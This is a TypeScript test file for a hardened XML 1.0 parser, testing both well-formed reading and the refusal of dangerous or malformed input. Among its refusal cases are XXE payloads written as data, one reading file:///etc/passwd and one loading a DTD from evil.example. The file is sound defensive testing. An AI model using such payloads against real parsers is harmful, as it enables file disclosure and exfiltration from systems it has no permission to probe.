import { messageLimits } from './limits.js';
import { parseXml } from './parse-xml.js';
import type { XmlElement } from './xml-element.js';
import { attributeOf, childElements, childNamed, textOf, walk } from './xml-element.js';

const read = (xml: string | Uint8Array): XmlElement => {
  const parsed = parseXml(xml, messageLimits);
  if (!parsed.ok) throw new Error(parsed.error);
  return parsed.value;
};

const refusal = (xml: string | Uint8Array): string | undefined => {
  const parsed = parseXml(xml, messageLimits);
  return parsed.ok ? undefined : parsed.error;
};

describe('Reading XML 1.0', () => {
  it('reads names, attributes, text and nesting', () => {
    const root = read('<a x="1" y=\'2\'><b>one</b> <c/></a>');
    expect(root.local).toBe('a');
    expect(attributeOf(root, 'x')).toBe('1');
    expect(attributeOf(root, 'y')).toBe('2');
    expect(childElements(root).map(({ local }) => local)).toEqual(['b', 'c']);
    expect(textOf(childNamed(root, '', 'b')!)).toBe('one');
  });

  it('takes an XML declaration, white space and comments around the document', () => {
    expect(read('<?xml version="1.0" encoding="UTF-8"?>\n<!-- a --><a/>\n<!-- b -->\n').local).toBe('a');
    expect(read("<?xml version='1.0' encoding='utf-8' standalone='yes' ?><a/>").local).toBe('a');
    expect(read(Buffer.from('\ufeff<a/>', 'utf8')).local).toBe('a');
  });

  it('reads the five entities and character references, and no others', () => {
    expect(textOf(read('<a>&lt;&gt;&amp;&quot;&apos;&#65;&#x42;&#x1F600;</a>'))).toBe('<>&"\'AB\u{1f600}');
    expect(attributeOf(read('<a x="&lt;&#10;&#x9;"/>'), 'x')).toBe('<\n\t');
  });

  it('makes line ends line feeds, and white space in attribute values spaces (XML 1.0 2.11, 3.3.3)', () => {
    expect(textOf(read('<a>1\r\n2\r3&#13;4</a>'))).toBe('1\n2\n3\r4');
    expect(attributeOf(read('<a x="1\r\n2\t3"/>'), 'x')).toBe('1 2 3');
  });

  it('joins text across comments and CDATA, so that neither can split a value', () => {
    const root = read('<a>admin@example.com<!-- x -->.evil.com<![CDATA[<&]]>!</a>');
    expect(root.children).toEqual(['admin@example.com.evil.com<&!']);
    expect(textOf(root)).toBe('admin@example.com.evil.com<&!');
  });

  it('gives the text of an element without that of its children', () => {
    expect(textOf(read('<a>1<b>2</b>3</a>'))).toBe('13');
    expect(textOf(read('<a/>'))).toBe('');
  });

  it('visits every element with its parent', () => {
    const seen: string[] = [];
    walk(read('<a><b><c/></b>t<d/></a>'), (element, parent) => seen.push(`${parent?.local ?? ''}>${element.local}`));
    expect(seen).toEqual(['>a', 'a>b', 'b>c', 'a>d']);
  });

  it('resolves namespaces, their defaults and their ends', () => {
    const root = read('<a xmlns="urn:d" xmlns:p="urn:p" p:x="1"><p:b/><c xmlns=""/></a>');
    expect(root.namespace).toBe('urn:d');
    expect(root.attributes[0]).toMatchObject({ namespace: 'urn:p', local: 'x' });
    expect(childElements(root).map(({ namespace }) => namespace)).toEqual(['urn:p', '']);
    expect(read('<a xml:lang="da"/>').attributes[0]?.namespace).toBe('http://www.w3.org/XML/1998/namespace');
  });

  it('reads a fragment in the namespaces of where it was', () => {
    const parsed = parseXml('<p:a/>', messageLimits, new Map([['p', 'urn:p']]));
    expect(parsed).toMatchObject({ ok: true, value: { namespace: 'urn:p' } });
  });
});

describe('Refusing XML', () => {
  it.each([
    ['a DOCTYPE', '<!DOCTYPE a><a/>'],
    ['an internal subset', '<!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>'],
    ['an external entity', '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'],
    ['a parameter entity', '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]><a/>'],
    ['a DOCTYPE in lower case', '<!doctype a><a/>'],
    ['a DOCTYPE after the root', '<a/><!DOCTYPE a>'],
    ['an entity declaration inside', '<a><!ENTITY x "y"></a>'],
    ['a conditional section', '<a><![INCLUDE[x]]></a>'],
  ])('refuses %s', (_what, xml) => {
    expect(refusal(xml)).toContain('DOCTYPE or another declaration');
  });

  it.each([
    '<a><?php x?></a>',
    '<?xml-stylesheet href="x"?><a/>',
    '<a/><?x?>',
    '<?xml version="1.1"?><a/>',
    ' <?xml version="1.0"?><a/>',
  ])('refuses a processing instruction or another XML version: %s', (xml) => {
    expect(refusal(xml)).toContain('processing instruction');
  });

  it.each(['<?xml version="1.0" encoding="ISO-8859-1"?><a/>', '<?xml version="1.0" encoding="UTF-7"?><a/>'])(
    'refuses another encoding: %s',
    (xml) => {
      expect(refusal(xml)).toBeDefined();
    },
  );

  it.each([
    ['a bare ampersand', '<a>&</a>'],
    ['an unknown entity', '<a>&x;</a>'],
    ['an unknown entity in an attribute', '<a x="&nbsp;"/>'],
    ['an entity without end', '<a>&lt</a>'],
    ['a reference to NUL', '<a>&#0;</a>'],
    ['a reference to a control character', '<a>&#x1;</a>'],
    ['a reference to a surrogate', '<a>&#xD800;</a>'],
    ['a reference beyond Unicode', '<a>&#x110000;</a>'],
    ['a very long reference', '<a>&#00000000065;</a>'],
  ])('refuses %s', (_what, xml) => {
    expect(refusal(xml)).toContain('not well-formed');
  });

  it.each([
    ['no root', ''],
    ['text only', 'text'],
    ['text before the root', 'x<a/>'],
    ['text after the root', '<a/>x'],
    ['two roots', '<a/><b/>'],
    ['an element that does not end', '<a><b></b>'],
    ['elements that cross', '<a><b></a></b>'],
    ['an end tag without start', '</a>'],
    ['a tag that does not end', '<a'],
    ['an attribute that does not end', '<a x="1'],
    ['an attribute without value', '<a x/>'],
    ['an attribute without quotes', '<a x=1/>'],
    ['attributes without space between', '<a x="1"y="2"/>'],
    ['an attribute twice', '<a x="1" x="2"/>'],
    ['an attribute twice by namespace', '<a xmlns:p="urn:x" xmlns:q="urn:x" p:x="1" q:x="2"/>'],
    ['< in an attribute', '<a x="<"/>'],
    ['a name that starts with a digit', '<1a/>'],
    ['a space before the name', '< a/>'],
    ['two colons', '<a:b:c xmlns:a="urn:x"/>'],
    ['an empty prefix', '<:a/>'],
    ['an empty local name', '<a: xmlns:a="urn:x"/>'],
    ['an end tag with attributes', '<a></a x="1">'],
    ['an end tag with a longer name', '<a></ab>'],
    [']]> in text', '<a>]]></a>'],
    ['two hyphens in a comment', '<a><!-- x -- y --></a>'],
    ['a comment that ends with three hyphens', '<a><!-- x ---></a>'],
    ['a comment that does not end', '<a><!-- x </a>'],
    ['a CDATA section that does not end', '<a><![CDATA[ x </a>'],
    ['a CDATA section outside', '<![CDATA[x]]><a/>'],
    ['a slash in the middle of a tag', '<a / x="1"></a>'],
  ])('refuses %s', (_what, xml) => {
    expect(refusal(xml)).toBeDefined();
  });

  it.each([
    ['an undeclared prefix', '<p:a/>'],
    ['an undeclared prefix of an attribute', '<a p:x="1"/>'],
    ['a prefix that ended', '<a><b xmlns:p="urn:p"/><p:c/></a>'],
    ['a prefix that is undeclared', '<a xmlns:p=""/>'],
    ['a namespace declared twice', '<a xmlns:p="urn:p" xmlns:p="urn:q"/>'],
    ['a default namespace declared twice', '<a xmlns="urn:p" xmlns="urn:q"/>'],
    ['xml bound to something else', '<a xmlns:xml="urn:x"/>'],
    ['another prefix bound to xml', '<a xmlns:p="http://www.w3.org/XML/1998/namespace"/>'],
    ['the prefix xmlns declared', '<a xmlns:xmlns="urn:x"/>'],
    ['the namespace of xmlns', '<a xmlns:p="http://www.w3.org/2000/xmlns/"/>'],
    ['an element with the prefix xmlns', '<xmlns:a/>'],
    ['a relative namespace', '<a xmlns="x"/>'],
    ['a very long namespace', `<a xmlns="urn:${'x'.repeat(600)}"/>`],
  ])('refuses %s', (_what, xml) => {
    expect(refusal(xml)).toContain('not well-formed');
  });

  it('refuses very many namespaces in scope, however they are spread', () => {
    const declare = (from: number, to: number): string =>
      Array.from({ length: to - from }, (_, i) => ` xmlns:p${from + i}="urn:x"`).join('');
    expect(refusal(`<a${declare(0, 20)}><b${declare(20, 40)}/></a>`)).toBeUndefined();
    expect(refusal(`<a${declare(0, 20)}><b${declare(20, 50)}/></a>`)).toContain('too many namespaces');
  });

  it('refuses bytes that are not UTF-8', () => {
    expect(refusal(Buffer.from([0x3c, 0x61, 0x3e, 0xff, 0x3c, 0x2f, 0x61, 0x3e]))).toBe('it is not UTF-8');
    expect(refusal(Buffer.from('<a>\u00e6</a>', 'latin1'))).toBe('it is not UTF-8');
    expect(refusal(Buffer.from('<a/>', 'utf16le'))).toBeDefined();
    // An overlong "<": a reader that takes it sees an element where we see none.
    expect(refusal(Buffer.from([0x3c, 0x61, 0x3e, 0xc0, 0xbc]))).toBe('it is not UTF-8');
  });

  it.each(['<a>\u0000</a>', '<a>\u0001</a>', '<a x="\u001f"/>', '<a>\uffff</a>'])(
    'refuses a character that XML does not have: %j',
    (xml) => {
      expect(refusal(xml)).toContain('character that XML does not allow');
    },
  );

  it('replaces lone surrogates of text before reading', () => {
    expect(textOf(read('<a>\ud800</a>'))).toBe('\ufffd');
  });
});
